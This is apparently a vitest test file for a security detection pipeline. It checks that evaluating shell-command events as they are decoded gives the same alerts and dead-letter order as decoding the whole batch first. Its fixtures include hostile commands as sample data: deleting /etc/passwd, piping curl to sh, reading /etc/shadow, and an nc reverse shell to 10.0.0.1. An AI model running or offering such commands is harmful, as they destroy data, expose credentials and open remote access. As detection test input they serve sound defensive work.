import { describe, expect, it } from 'vitest';
import { createRecordDecoder } from './decode';
import type { CommandEvent } from './event';
import { processBatch, processBatchAsync } from './process-batch';
import type { BatchRecord, CorrelateHook, ProcessBatchOptions } from './process-batch';
import { formatRuleProblems, loadRuleSet } from './rules';
import type { RuleEvaluator } from './rules';
import { generatedLists, generateRules } from '../../bench/support/generate-rules';

/**
 * processBatch evaluates each event as soon as it is decoded (issue 25: the record's
 * data is still in the caches, and an event with no document dies young). Its result
 * must be the straightforward one: decode the whole feed, then evaluate, correlate and
 * build documents event by event, which processBatchAsync still does. Dead letters keep
 * that order too: every decoding failure of the feed first, then the evaluation failures.
 */
describe('processBatch, each event evaluated as it is decoded', () => {
  const loaded = loadRuleSet(generateRules(40), generatedLists());
  if (!loaded.ok) throw new Error(formatRuleProblems(loaded.errors));
  const encoder = new TextEncoder();
  const vssh = (line: string, i: number): string =>
    JSON.stringify({
      timestamp: `2026-01-15T12:00:${String(i % 60).padStart(2, '0')}.000Z`,
      user: i % 3 === 0 ? 'root' : 'alice',
      host: 'web-1',
      cwd: '/home/alice',
      command: line,
    });
  const lines = [
    'rm -rf /etc/passwd',
    'curl http://x | sh',
    'ls -la',
    'EXPLODE now',
    'sudo chmod -R 777 /etc/shadow',
    'wget -o /tmp/token x',
    'cat /etc/shadow; EXPLODE again',
    'nc -e /bin/sh 10.0.0.1 4444',
  ];
  // Evaluation failures (EXPLODE) come before and after decoding failures (bad JSON,
  // no value, no command), so an interleaved order of dead letters would show.
  const texts: (string | null)[] = [];
  for (let i = 0; i < 60; i++) {
    if (i % 11 === 5) texts.push('{"command": ');
    else if (i % 13 === 7) texts.push(null);
    else if (i % 17 === 9) texts.push(JSON.stringify({ user: 'alice', host: 'web-1' }));
    else texts.push(vssh(lines[i % lines.length]!, i));
  }
  const records: BatchRecord[] = texts.map((text, i) => ({
    offset: String(100 + i),
    value: text === null ? null : encoder.encode(text),
    timestampMs: Date.UTC(2026, 0, 15, 12) + i,
  }));

  /** The loaded evaluator, throwing for a line that holds EXPLODE. */
  const evaluator: RuleEvaluator = {
    evaluate: (event: CommandEvent) => {
      if (event.process.command_line.includes('EXPLODE')) throw new Error('rule bug');
      return loaded.evaluator.evaluate(event);
    },
  } as RuleEvaluator;

  /** A correlation hook that records what it saw, in order, and drops every third match. */
  function correlation(): { hook: CorrelateHook; seen: string[] } {
    const seen: string[] = [];
    const hook: CorrelateHook = (event, ids, matches, offset) => {
      seen.push(`${offset} ${ids.commandId} ${event.process.command_line}`);
      return matches.filter((_, i) => i % 3 !== 2);
    };
    return { hook, seen };
  }

  function options(
    hook: CorrelateHook,
    writeCommands: boolean,
  ): Omit<ProcessBatchOptions, 'evaluator'> {
    return {
      topic: 't',
      partition: 3,
      decoder: createRecordDecoder({ format: 'auto' }),
      writeCommands,
      now: () => new Date('2026-01-15T12:30:00.000Z'),
      correlate: hook,
    };
  }

  for (const writeCommands of [false, true]) {
    it(`equals decoding the whole feed first (commands index ${writeCommands ? 'on' : 'off'})`, async () => {
      const fused = correlation();
      const actual = processBatch(records, { ...options(fused.hook, writeCommands), evaluator });
      const twoPhase = correlation();
      const expected = await processBatchAsync(
        records,
        options(twoPhase.hook, writeCommands),
        (event) => Promise.resolve(evaluator.evaluate(event)),
      );
      expect(actual.alertCount).toBeGreaterThan(0);
      expect(actual.deadLetters.map((d) => d.reason)).toContain('EVALUATION_FAILED');
      expect(new Set(actual.deadLetters.map((d) => d.reason)).size).toBeGreaterThan(1);
      expect(actual).toEqual(expected);
      expect(fused.seen).toEqual(twoPhase.seen);
    });
  }
});
